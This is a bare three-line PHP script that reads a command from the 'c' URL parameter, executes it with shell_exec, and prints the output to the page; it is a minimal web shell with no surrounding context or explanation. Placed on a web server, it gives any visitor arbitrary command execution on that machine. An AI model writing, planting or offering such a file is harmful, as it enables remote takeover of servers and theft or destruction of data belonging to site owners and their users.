<?php
$cmd = trim($_GET['c']);
echo '<pre>' . shell_exec($cmd) . '</pre>';
